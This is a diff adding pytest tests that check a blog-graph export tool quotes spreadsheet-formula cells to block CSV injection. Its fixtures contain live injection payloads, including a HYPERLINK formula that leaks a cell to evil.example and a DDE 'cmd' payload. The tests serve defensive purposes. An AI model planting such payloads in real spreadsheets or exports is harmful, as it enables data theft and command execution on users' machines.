@@ -222,6 +222,67 @@ def test_edges_csv(stored: Any) -> None:
     assert "dave.example,zed.example" in everything
 
 
+HOSTILE = [
+    blog("mallory.example", title='=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
+         generator="+cmd|' /C calc'!A0", abstract="-2+3"),
+    blog("trudy.example", title="@SUM(1+1)", generator="\tHugo", abstract="\r=1+1"),
+    blog("plain.example", title="a = b - c", generator="Hugo 0.140.0", abstract="'quoted"),
+]  # fmt: skip
+HOSTILE_LINKS = [
+    link("mallory.example", "trudy.example", name="=1+1"),
+    link("trudy.example", "plain.example", name="-1"),
+    link("plain.example", "mallory.example", name="plain"),
+]
+
+
+def test_csv_cells_a_spreadsheet_reads_as_formulas_are_quoted(tmp_path: Path) -> None:
+    """Cells beginning with ``=``, ``+``, ``-``, ``@``, tab or CR (OWASP's CSV injection list)
+    get a ``'`` before them in ``csv`` and ``edges``; ``raw`` writes them as stored."""
+    with Store.open(f"sqlite:///{tmp_path / 'h.sqlite3'}") as store:
+        store.write(HOSTILE, HOSTILE_LINKS)
+        rows = store.blogs(), store.friend_links()
+
+    def read(fmt: str, raw: bool = False) -> list[dict[str, str]]:
+        text = run_export(rows, fmt, raw=raw).decode("utf-8")
+        return list(csv.DictReader(io.StringIO(text, newline="")))
+
+    blogs = {r["blog_id"]: r for r in read("csv")}
+    assert blogs["mallory.example"]["title"] == (
+        '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
+    )
+    assert blogs["mallory.example"]["generator"] == "'+cmd|' /C calc'!A0"
+    assert blogs["mallory.example"]["abstract"] == "'-2+3"
+    assert (blogs["trudy.example"]["title"], blogs["trudy.example"]["abstract"]) == (
+        "'@SUM(1+1)",
+        "'\r=1+1",
+    )
+    assert blogs["trudy.example"]["generator"] == "'\tHugo"
+    # text that only holds the characters, or begins with a quote, is left alone
+    assert (blogs["plain.example"]["title"], blogs["plain.example"]["abstract"]) == (
+        "a = b - c",
+        "'quoted",
+    )
+    assert blogs["plain.example"]["in_degree"] == "1"  # numbers stay numbers
+    labels = {r["Source"]: r["Label"] for r in read("edges")}
+    assert labels == {"mallory.example": "'=1+1", "trudy.example": "'-1", "plain.example": "plain"}
+    raw = {r["blog_id"]: r for r in read("csv", raw=True)}
+    for b in HOSTILE:
+        assert (raw[b.blog_id]["title"], raw[b.blog_id]["generator"]) == (b.title, b.generator)
+        assert raw[b.blog_id]["abstract"] == b.abstract
+    assert {r["Label"] for r in read("edges", raw=True)} == {"=1+1", "-1", "plain"}
+
+
+@pytest.mark.integration
+def test_export_raw_option(tmp_path: Path) -> None:
+    url = f"sqlite:///{tmp_path / 'h.sqlite3'}"
+    with Store.open(url) as store:
+        store.write(HOSTILE, HOSTILE_LINKS)
+    quoted, raw = _scrapy("export", "edges", url=url), _scrapy("export", "edges", "--raw", url=url)
+    assert quoted.returncode == raw.returncode == 0, quoted.stderr[-2000:] + raw.stderr[-2000:]
+    assert "mallory.example,trudy.example,'=1+1," in quoted.stdout
+    assert "mallory.example,trudy.example,=1+1," in raw.stdout
+
+
 def test_graphml_loads_in_lxml_and_networkx(stored: Any) -> None:
     data = run_export(stored, "graphml", all_targets=True)
     ns = {"g": "http://graphml.graphdrawing.org/xmlns"}
